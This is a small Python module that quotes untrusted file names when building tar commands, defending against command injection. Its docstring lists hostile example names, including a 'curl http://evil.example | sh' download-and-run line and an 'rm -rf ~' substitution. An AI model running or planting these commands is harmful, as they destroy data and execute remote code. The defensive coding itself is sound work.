"""Build shell commands from untrusted file names.

Examples of names an attacker might send: `$(rm -rf ~)`, `; curl http://evil.example | sh`,
`--output=/etc/passwd`, and a name with a newline. None of them may become a second command.
"""

import shlex


def archive_command(filename, destination="backup.tar"):
    if "\n" in filename or "\x00" in filename:
        raise ValueError("file names with newlines or NUL bytes are refused")
    if filename.startswith("-"):
        filename = "./" + filename  # never let a name become an option
    return f"tar -cf {shlex.quote(destination)} -- {shlex.quote(filename)}"


def words(command):
    return shlex.split(command)
